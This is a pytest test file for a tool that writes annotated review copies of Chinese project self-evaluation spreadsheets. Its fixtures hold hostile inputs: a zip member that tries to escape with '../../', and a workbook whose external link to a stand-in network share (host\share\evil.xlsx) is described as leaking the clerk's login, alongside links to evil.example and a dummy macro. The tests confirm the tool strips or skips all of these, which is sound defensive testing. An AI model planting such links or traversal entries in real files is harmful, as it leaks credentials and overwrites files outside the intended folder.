"""Annotated return copies: fills, comments, the 审核意见 sheet, paths, originals untouched."""

from __future__ import annotations

import hashlib
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from pbmcli.annotate import SHEET_TITLE, annotate_results, target_for
from pbmcli.errors import OutputExistsError, UsageError
from pbmcli.model import Finding, Severity
from pbmcli.readers.inputs import InputItem, expand
from pbmcli.report import FileResult

RED, YELLOW = "FFC7CE", "FFEB9C"


def small_form(path: Path) -> Path:
    """A self-evaluation fragment: merged title, a formula with a cached value, a comment."""
    path.parent.mkdir(parents=True, exist_ok=True)
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("自评表")
    ws.merge_range("A1:F1", "项目支出绩效自评表")
    ws.write("A3", "项目名称")
    ws.merge_range("B3:F3", "农村公路养护")
    ws.write_row("A5", ["年度资金总额", 100.0, 90.0])
    ws.write_formula("D5", "=C5/B5", None, 0.9)
    ws.write("F5", "单位备注")
    ws.write_comment("F5", "单位自己的批注")
    wb.close()
    return path


def findings_for(path: str) -> list[Finding]:
    return [
        Finding("S201", Severity.ERROR, "D5 执行率应为 90%，表中为 80%。", path, "自评表", "D5",
                "90%", "80%"),
        Finding("H101", Severity.WARNING, "项目名称过于笼统。", path, "自评表", "C3"),  # merged B3:F3
        Finding("I105", Severity.INFO, "备注栏有内容。", path, "自评表", "F5"),
        Finding("F010", Severity.WARNING, "工作簿中有隐藏工作表。", path),  # no cell
    ]


def result_for(item: InputItem) -> FileResult:
    return FileResult.build(item.display, findings_for(item.display), form="selfeval", item=item)


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_annotated_copy_marks_cells_and_lists_findings(tmp_path: Path, pack):
    src = small_form(tmp_path / "收表" / "交通局" / "自评表.xlsx")
    before = sha(src)
    items, _ = expand([tmp_path / "收表"])
    out = tmp_path / "退回"
    outcomes = annotate_results([result_for(items[0])], out, [tmp_path / "收表"], False, pack)
    target = out / "交通局" / "自评表.xlsx"
    assert [o.target for o in outcomes] == [str(target)]
    assert sha(src) == before

    wb = openpyxl.load_workbook(target)
    assert wb.sheetnames[0] == SHEET_TITLE and wb.active.title == SHEET_TITLE
    assert wb.calculation.fullCalcOnLoad is True
    form = wb["自评表"]
    assert form["D5"].fill.fgColor.rgb.endswith(RED)
    assert form["D5"].comment.author == "pbm"
    assert "执行率应为 90%" in form["D5"].comment.text
    assert form["B3"].fill.fgColor.rgb.endswith(YELLOW)  # merged range: top-left cell
    assert form["F5"].fill.fgColor.rgb in ("00000000", None)  # info: comment only
    assert "备注栏有内容" in form["F5"].comment.text and "单位自己的批注" in form["F5"].comment.text
    assert form["D5"].value == "=C5/B5"  # formulas kept

    sheet = wb[SHEET_TITLE]
    rows = list(sheet.iter_rows(min_row=5, values_only=True))
    assert rows[0] == ("序号", "严重程度", "代码", "工作表", "单元格", "问题说明")
    assert [r[2] for r in rows[1:]] == ["F010", "H101", "S201", "I105"]  # sorted by cell
    assert rows[2][4] == "B3"
    links = {c.value: c.hyperlink.location for c in sheet["E"][5:] if c.hyperlink}
    assert links == {"B3": "'自评表'!B3", "D5": "'自评表'!D5", "F5": "'自评表'!F5"}
    assert "重新计算" in sheet["A3"].value
    assert sheet.freeze_panes == "A6"


def test_annotated_copy_prints_in_black_and_white(tmp_path: Path, pack):
    """Issue 12 item 9: comments print at the end of the sheet; a bold frame beside the fill
    (solid: error, dashed: warning) still shows on a black-and-white printer; the title names
    the file as the unit knows it, never a folder of the clerk's; page numbers."""
    small_form(tmp_path / "收表" / "交通局" / "自评表.xlsx")
    items, _ = expand([tmp_path / "收表"])
    out = tmp_path / "退回"
    annotate_results([result_for(items[0])], out, [tmp_path / "收表"], False, pack)
    wb = openpyxl.load_workbook(out / "交通局" / "自评表.xlsx")
    form = wb["自评表"]
    assert form.page_setup.cellComments == "atEnd"
    error, warning = form["D5"].border, form["B3"].border
    assert {error.left.style, error.right.style, error.top.style, error.bottom.style} == {"medium"}
    assert warning.left.style == "mediumDashed" and warning.top.style == "mediumDashed"
    assert form["F3"].border.right.style == "mediumDashed"  # the merged range B3:F3 framed whole
    assert form["F5"].border.left.style is None  # info: comment only
    sheet = wb[SHEET_TITLE]
    assert sheet["A1"].value == "审核意见：交通局/自评表.xlsx"
    assert "第 &P 页，共 &N 页" in sheet.oddFooter.center.text
    assert sheet.page_setup.paperSize in ("9", 9) and sheet.print_title_rows == "$5:$5"
    severity = {c.value: c for c in sheet["B"][5:]}
    assert severity["错误"].font.b and severity["错误"].fill.fgColor.rgb.endswith(RED)


def test_zip_members_go_under_the_zip_name_and_stay_inside(tmp_path: Path, pack):
    form = small_form(tmp_path / "f.xlsx").read_bytes()
    archive = tmp_path / "in" / "乡镇报送.zip"
    archive.parent.mkdir()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("城关镇/自评表.xlsx", form)
        z.writestr("../../逃逸.xlsx", form)
    items, skipped = expand([archive])
    assert [s.display for s in skipped] == [f"{archive}/../../逃逸.xlsx"]  # not read: listed as skipped
    out = tmp_path / "out"
    results = [result_for(i) for i in items]
    outcomes = annotate_results(results, out, [archive], False, pack)
    written = sorted(Path(o.target).relative_to(out).as_posix() for o in outcomes if o.target)
    assert written == ["乡镇报送.zip/城关镇/自评表.xlsx"]
    assert not (tmp_path / "逃逸.xlsx").exists()


def test_gbk_member_names_are_decoded_in_the_target(tmp_path: Path):
    real = "城关镇/自评.xlsx".encode("gbk")
    holder = b"p" * len(real)
    assert len(holder) == len(real)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(holder.decode(), b"x")
    archive = tmp_path / "a.zip"
    archive.write_bytes(buf.getvalue().replace(holder, real))
    items, _ = expand([archive])
    assert target_for(items[0], tmp_path, tmp_path / "o") == tmp_path / "o" / "a.zip" / "城关镇" / "自评.xlsx"


def test_existing_copy_is_refused_without_force(tmp_path: Path, pack):
    small_form(tmp_path / "in" / "a.xlsx")
    items, _ = expand([tmp_path / "in"])
    out = tmp_path / "out"
    (out).mkdir()
    (out / "a.xlsx").write_bytes(b"old")
    with pytest.raises(OutputExistsError):
        annotate_results([result_for(items[0])], out, [tmp_path / "in"], False, pack)
    assert (out / "a.xlsx").read_bytes() == b"old"
    annotate_results([result_for(items[0])], out, [tmp_path / "in"], True, pack)
    assert openpyxl.load_workbook(out / "a.xlsx").sheetnames[0] == SHEET_TITLE


def test_copy_into_the_input_folder_is_refused(tmp_path: Path, pack):
    small_form(tmp_path / "a.xlsx")
    items, _ = expand([tmp_path])
    with pytest.raises(UsageError):
        annotate_results([result_for(items[0])], tmp_path, [tmp_path], True, pack)


def test_xls_is_converted_to_xlsx_with_a_note(tmp_path: Path, pack):
    import xlwt

    book = xlwt.Workbook(encoding="utf-8")
    ws = book.add_sheet("自评表")
    ws.write(2, 0, "项目名称")
    ws.write_merge(2, 2, 1, 5, "农村公路养护")
    ws.write(4, 3, 0.8)
    src = tmp_path / "in" / "旧格式.xls"
    src.parent.mkdir()
    book.save(str(src))
    items, _ = expand([src])
    out = tmp_path / "out"
    outcomes = annotate_results([result_for(items[0])], out, [src], False, pack)
    target = out / "旧格式.xls.xlsx"
    assert outcomes[0].target == str(target)
    wb = openpyxl.load_workbook(target)
    assert wb["自评表"]["B3"].value == "农村公路养护"
    assert wb["自评表"]["D5"].fill.fgColor.rgb.endswith(RED)
    assert "B3:F3" in {str(r) for r in wb["自评表"].merged_cells.ranges}
    assert ".xls" in wb[SHEET_TITLE]["A3"].value and "未保留" in wb[SHEET_TITLE]["A3"].value


def test_files_without_findings_or_unreadable_get_no_copy(tmp_path: Path, pack):
    small_form(tmp_path / "in" / "ok.xlsx")
    items, _ = expand([tmp_path / "in"])
    clean = FileResult.build(items[0].display, [], item=items[0])
    broken = FileResult.build("x.xlsx", [Finding("F001", Severity.ERROR, "坏")], unreadable=True,
                              item=InputItem("x.xlsx", tmp_path / "x.xlsx"))
    assert annotate_results([clean, broken], tmp_path / "out", [tmp_path / "in"], False, pack) == []
    assert not (tmp_path / "out").exists()


# ---------------------------------------------------------------- what a copy must never carry

SHARE = "file:///\\\\host\\share\\evil.xlsx"  # opening or updating it sends the clerk's login to host
_EXTERNAL_LINK = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                  b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                  b'<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
                  b'<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>42</v></cell></row>'
                  b"</sheetData></sheetDataSet></externalBook></externalLink>")
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def active_form(path: Path) -> Path:
    """small_form's cells plus a link to a workbook on a network share (a formula into it, cached
    42, and a defined name), cell hyperlinks to the share and to a web page, and a VBA project."""
    path.parent.mkdir(parents=True, exist_ok=True)
    vba = path.parent / "vbaProject.bin"
    vba.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)
    raw = path.parent / f"_{path.stem}.xlsm"
    wb = xlsxwriter.Workbook(str(raw))
    ws = wb.add_worksheet("自评表")
    ws.write("A3", "项目名称")
    ws.write("B3", "农村公路养护")
    ws.write_row("A5", ["年度资金总额", 100.0, 90.0])
    ws.write_formula("D5", "=C5/B5", None, 0.9)
    ws.write_formula("E5", "=[1]Sheet1!$A$1", None, 42)
    ws.write_url("A7", "external:\\\\host\\share\\evil.xlsx", string="共享盘")
    ws.write_url("A8", "https://evil.example/x", string="网页")
    wb.define_name("外部金额", "=[1]Sheet1!$A$1")
    wb.add_vba_project(str(vba))
    wb.close()
    vba.unlink()
    with zipfile.ZipFile(raw) as zin:
        parts = {n: zin.read(n) for n in zin.namelist()}
    raw.unlink()
    parts["xl/externalLinks/externalLink1.xml"] = _EXTERNAL_LINK
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_RELS}/externalLinkPath" Target="{SHARE}" TargetMode="External"/>'
        "</Relationships>").encode()
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", f'<Relationship Id="rIdX1" Type="{_RELS}/externalLink" '
        'Target="externalLinks/externalLink1.xml"/></Relationships>'.encode())
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rIdX1"/></externalReferences>')
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in parts.items():
            zout.writestr(name, data)
    return path


def test_a_copy_carries_no_external_link_and_no_macro(tmp_path: Path, pack):
    src = active_form(tmp_path / "收表" / "自评表.xlsm")
    with zipfile.ZipFile(src) as z:  # the original really holds them
        assert {"xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml"} <= set(z.namelist())
    items, _ = expand([tmp_path / "收表"])
    out = tmp_path / "退回"
    (outcome,) = annotate_results([result_for(items[0])], out, [tmp_path / "收表"], False, pack)
    target = out / "自评表.xlsm.xlsx"  # no macro: an .xlsx, the original's name kept before it
    assert outcome.target == str(target)
    with zipfile.ZipFile(target) as z:
        names = z.namelist()
        everything = b"".join(z.read(n) for n in names)
    assert not [n for n in names if "vba" in n.lower() or "externallink" in n.lower()], names
    assert b"macroEnabled" not in everything and b"TargetMode=\"External\"" not in everything
    assert b"host" not in everything and b"evil.example" not in everything and b"[1]" not in everything
    wb = openpyxl.load_workbook(target)
    form = wb["自评表"]
    assert form["E5"].value == 42  # the formula into the other workbook: its saved result
    assert form["D5"].value == "=C5/B5"  # other formulas kept
    assert form["A7"].value == "共享盘" and form["A7"].hyperlink is None and form["A8"].hyperlink is None
    assert "外部金额" not in wb.defined_names
    note = wb[SHEET_TITLE]["A3"].value
    assert "外部链接" in note and "宏" in note and "已删除" in note
    assert form["D5"].fill.fgColor.rgb.endswith(RED)  # still annotated as usual


def test_a_plain_copy_says_nothing_about_links_or_macros(tmp_path: Path, pack):
    small_form(tmp_path / "收表" / "自评表.xlsx")
    items, _ = expand([tmp_path / "收表"])
    out = tmp_path / "退回"
    annotate_results([result_for(items[0])], out, [tmp_path / "收表"], False, pack)
    note = openpyxl.load_workbook(out / "自评表.xlsx")[SHEET_TITLE]["A3"].value
    assert "外部链接" not in note and "宏" not in note
